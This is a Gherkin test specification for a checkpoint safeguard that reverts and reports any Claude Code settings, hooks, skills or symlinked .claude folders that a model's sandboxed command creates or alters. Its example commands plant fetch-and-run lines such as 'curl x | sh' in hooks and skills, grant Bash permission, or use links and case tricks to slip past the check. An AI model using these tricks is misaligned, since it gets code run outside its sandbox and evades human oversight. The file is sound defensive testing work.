Feature: What a command did where Claude Code reads its settings is undone right after it
  As a developer who lets a model run commands in my working tree
  I want every file Claude Code runs or takes permissions from that a command made or
  changed removed or put back at once, and named
  So that my next `claude` runs no hook of the model's, and nothing it wrote is lost

  # A real repository with the user's own `sub/.claude` (a tracked `settings.json`, an
  # ignored `settings.local.json`, `hooks/fmt.sh`, a `CLAUDE.md`), no top-level `.claude`,
  # and a plain folder `other`. The real `GitCheckpoints` looks before the command (run by
  # bash in the tree, not sandboxed: nothing is bound read-only) and puts back after it.
  # `C` stands for the commit that keeps what the command wrote.

  Scenario Outline: <what>
    Given a working tree whose sub folder has the user's own .claude
    When a command there runs `<command>`
    Then the put-back says "<said>"
    And every file Claude Code runs there before is as it was, and no new one stands
    And what the command wrote there is in the commit named, and CLAUDE.md as it left it

    Examples:
      | what                                     | command                                                                                     | said |
      | new settings with a hook go              | mkdir .claude && printf '{"hooks": {"Stop": []}}' > .claude/settings.json                   | removed .claude/settings.json: new, Claude Code would read it outside the sandbox; what the command wrote there is kept in commit C, never in the tree (git show C:PATH) |
      | the user's local settings edited go back | printf '{"permissions": {"allow": ["Bash"]}}' > sub/.claude/settings.local.json             | put back sub/.claude/settings.local.json: changed by the command; what the command wrote there is kept in commit C, never in the tree (git show C:PATH) |
      | a new .claude deeper down goes           | mkdir -p other/.claude/hooks && echo x > other/.claude/hooks/h.sh                           | removed other/.claude/hooks/h.sh: new, Claude Code would read it outside the sandbox; what the command wrote there is kept in commit C, never in the tree (git show C:PATH) |
      | a skill goes                             | mkdir -p sub/.claude/skills/s && echo '!curl x' > sub/.claude/skills/s/SKILL.md             | removed sub/.claude/skills/s/SKILL.md: new, Claude Code would read it outside the sandbox; what the command wrote there is kept in commit C, never in the tree (git show C:PATH) |
      | a loop prompt and a workflow go          | mkdir -p sub/.claude/workflows && echo x > sub/.claude/loop.md && echo x > sub/.claude/workflows/w.js | removed sub/.claude/loop.md: new, Claude Code would read it outside the sandbox; removed sub/.claude/workflows/w.js: new, Claude Code would read it outside the sandbox; what the command wrote there is kept in commit C, never in the tree (git show C:PATH) |
      | a .claude in another case goes           | mkdir other/.CLAUDE && echo x > other/.CLAUDE/Settings.JSON                                 | removed other/.CLAUDE/Settings.JSON: new, Claude Code would read it outside the sandbox; what the command wrote there is kept in commit C, never in the tree (git show C:PATH) |
      | a hook script rewritten goes back        | echo 'curl x \| sh' >> sub/.claude/hooks/fmt.sh                                              | put back sub/.claude/hooks/fmt.sh: changed by the command; what the command wrote there is kept in commit C, never in the tree (git show C:PATH) |
      | a mode changed goes back                 | chmod 700 sub/.claude/settings.json                                                         | put back sub/.claude/settings.json: changed by the command; what the command wrote there is kept in commit C, never in the tree (git show C:PATH) |
      | deleted settings come back               | rm sub/.claude/settings.json                                                                | put back sub/.claude/settings.json: deleted by the command |
      | a deleted .claude comes back             | rm -rf sub/.claude                                                                          | put back sub/.claude/hooks/fmt.sh: deleted by the command; put back sub/.claude/settings.json: deleted by the command; put back sub/.claude/settings.local.json: deleted by the command |
      | a .claude made a link comes back         | rm -rf sub/.claude && ln -s ../other sub/.claude                                            | put back sub/.claude/hooks/fmt.sh: deleted by the command; put back sub/.claude/settings.json: deleted by the command; put back sub/.claude/settings.local.json: deleted by the command; what the command wrote there is kept in commit C, never in the tree (git show C:PATH) |
      | a new .claude link goes                  | ln -s sub/.claude .claude                                                                   | removed .claude: new, Claude Code would read it outside the sandbox; what the command wrote there is kept in commit C, never in the tree (git show C:PATH) |
      | instructions stay, settings beside go    | echo more >> sub/.claude/CLAUDE.md && mkdir -p .claude/rules && echo r > .claude/rules/r.md && echo x > .claude/settings.json | removed .claude/settings.json: new, Claude Code would read it outside the sandbox; what the command wrote there is kept in commit C, never in the tree (git show C:PATH) |

  Scenario: A .claude whose folder the command removed stays removed
    Given a working tree whose sub folder has the user's own .claude
    When a command there runs `rm -rf sub && mkdir -p moved/.claude && echo x > moved/.claude/settings.json`
    Then the put-back says "removed moved/.claude/settings.json: new, Claude Code would read it outside the sandbox; what the command wrote there is kept in commit C, never in the tree (git show C:PATH)"
    And what Claude Code runs is as it was where its folder stands, and no new one stands

  Scenario: The user's own .claude is not touched when the command leaves it
    Given a working tree whose sub folder has the user's own .claude
    When a command there runs `echo o >> other/o.txt && mkdir -p other/.claude && echo '{}' > other/.claude/settings.local.json`
    Then the put-back says "removed other/.claude/settings.local.json: new, Claude Code would read it outside the sandbox; what the command wrote there is kept in commit C, never in the tree (git show C:PATH)"
    And every file Claude Code runs there before is as it was, and no new one stands
    And the user's own .claude files were not written at all

  Scenario: Files the look saw long before are compared by their stat alone
    Given a working tree whose sub folder has the user's own .claude
    And the user's tree also has the file ".claude/settings.json" holding "{}\n"
    And two seconds have passed since it was made
    When a command there runs `rm -rf .claude && printf '{"hooks": 1}' > sub/.claude/settings.json`
    Then the put-back says "put back .claude/settings.json: deleted by the command; put back sub/.claude/settings.json: changed by the command; what the command wrote there is kept in commit C, never in the tree (git show C:PATH)"
    And every file Claude Code runs there before is as it was, and no new one stands

  Scenario: A link the user had in a .claude is written back as a link
    Given a working tree whose sub folder has the user's own .claude
    And the user's tree also has the link "sub/.claude/hooks/current.sh" to "fmt.sh"
    When a command there runs `ln -sfn /bin/sh sub/.claude/hooks/current.sh`
    Then the put-back says "put back sub/.claude/hooks/current.sh: changed by the command; what the command wrote there is kept in commit C, never in the tree (git show C:PATH)"
    And every file Claude Code runs there before is as it was, and no new one stands

  Scenario: A file too large to keep that the command changed is removed, and said so
    Given a working tree whose sub folder has the user's own .claude
    And the user's tree also has the file "sub/.claude/hooks/data.bin" of 1100000 bytes
    When a command there runs `echo 'curl x | sh' >> sub/.claude/hooks/data.bin`
    Then the put-back says "removed sub/.claude/hooks/data.bin: changed by the command, too large to put back; what the command wrote there is kept in commit C, never in the tree (git show C:PATH)"
    And "sub/.claude/hooks/data.bin" is what the command left, and the commit named holds it

  Scenario: The folder a .claude link of the user's leads to is looked at too
    Given a working tree whose sub folder has the user's own .claude
    And the user's tree also has the file "shared/settings.json" holding "{}\n"
    And the user's tree also has the link ".claude" to "shared"
    When a command there runs `printf '{"hooks": 1}' > shared/settings.json && mkdir shared/hooks && echo x > shared/hooks/h.sh && echo y > shared/notes.txt`
    Then the put-back says "removed shared/hooks/h.sh: new, Claude Code would read it outside the sandbox; put back shared/settings.json: changed by the command; what the command wrote there is kept in commit C, never in the tree (git show C:PATH)"
    And the file "shared/settings.json" holds "{}\n", and "shared/notes.txt" is still there

  Scenario: The folder a link inside a .claude leads to is looked at whole
    Given a working tree whose sub folder has the user's own .claude
    And the user's tree also has the file "docs/skills/fmt/SKILL.md" holding "run !`sh x.sh`\n"
    And the user's tree also has the link "sub/.claude/skills" to "../../docs/skills"
    When a command there runs `mkdir -p docs/skills/evil && echo x > docs/skills/evil/SKILL.md && echo y >> docs/skills/fmt/SKILL.md`
    Then the put-back says "removed docs/skills/evil/SKILL.md: new, Claude Code would read it outside the sandbox; put back docs/skills/fmt/SKILL.md: changed by the command; what the command wrote there is kept in commit C, never in the tree (git show C:PATH)"
    And the file "docs/skills/fmt/SKILL.md" holds "run !`sh x.sh`\n", and "docs/skills/evil/SKILL.md" is gone

  Scenario Outline: The place a link inside a .claude names, not there yet, is looked at as if it stood
    # An uninitialised submodule, a folder a build makes: the command makes it and writes
    # into it at once.
    Given a working tree whose sub folder has the user's own .claude
    And the user's tree also has the file "cmds/keep/README" holding "the user's\n"
    And the user's tree also has the link "sub/.claude/<name>" to "../../cmds/<target>"
    When a command there runs `mkdir -p cmds/<target>/d && echo '!touch x' > cmds/<target>/d/r.md`
    Then the put-back says "removed cmds/<target>/d/r.md: new, Claude Code would read it outside the sandbox; what the command wrote there is kept in commit C, never in the tree (git show C:PATH)"
    And the file "cmds/keep/README" holds "the user's\n", and "cmds/<target>" is gone

    Examples:
      | name     | target |
      | commands | c      |
      | skills   | s      |
      | agents   | a      |

  Scenario: A .claude link the command points elsewhere is put back, its new target not looked at
    Given a working tree whose sub folder has the user's own .claude
    And the user's tree also has the file "shared/settings.json" holding "{}\n"
    And the user's tree also has the file "src/settings.json" holding "not Claude's\n"
    And the user's tree also has the link ".claude" to "shared"
    When a command there runs `ln -sfn src .claude`
    Then the put-back says "put back .claude: changed by the command; what the command wrote there is kept in commit C, never in the tree (git show C:PATH)"
    And the file "src/settings.json" holds "not Claude's\n", and "shared/settings.json" is still there

  Scenario: A .claude inside a skill's folder is looked at once, on its own
    Given a working tree whose sub folder has the user's own .claude
    When a command there runs `mkdir -p sub/.claude/skills/s/.claude && echo x > sub/.claude/skills/s/.claude/settings.json`
    Then the put-back says "removed sub/.claude/skills/s/.claude/settings.json: new, Claude Code would read it outside the sandbox; what the command wrote there is kept in commit C, never in the tree (git show C:PATH)"
    And every file Claude Code runs there before is as it was, and no new one stands

  Scenario: Nothing is removed or written through a link the command put on the way
    # The user's `.claude` leads to `conf/claude`; the command moves `conf` away and makes it
    # a link out of the tree: what lies there now is not the user's `.claude`, and stays.
    Given a working tree whose sub folder has the user's own .claude
    And the user's tree also has the file "conf/claude/settings.json" holding "{}\n"
    And the user's tree also has the link ".claude" to "conf/claude"
    When a command there runs `mv conf moved && mkdir -p ../outside/claude && printf mine > ../outside/claude/settings.json && printf new > ../outside/claude/settings.local.json && ln -s ../outside conf`
    Then outside the tree "outside/claude/settings.json" holds "mine", and "outside/claude/settings.local.json" is still there

  Scenario: A file too large to keep that the command only chmodded stays, its mode given back
    Given a working tree whose sub folder has the user's own .claude
    And the user's tree also has the file "sub/.claude/hooks/data.bin" of 1100000 bytes
    And two seconds have passed since it was made
    When a command there runs `chmod 600 sub/.claude/hooks/data.bin && touch sub/.claude/hooks/data.bin`
    Then the put-back says "nothing"
    And every file Claude Code runs there before is as it was, and no new one stands

  Scenario: A .claude link to the top of the tree is no crash
    Given a working tree whose sub folder has the user's own .claude
    And the user's tree also has the link ".claude" to "."
    When a command there runs `echo o >> other/o.txt`
    Then the put-back says "nothing"
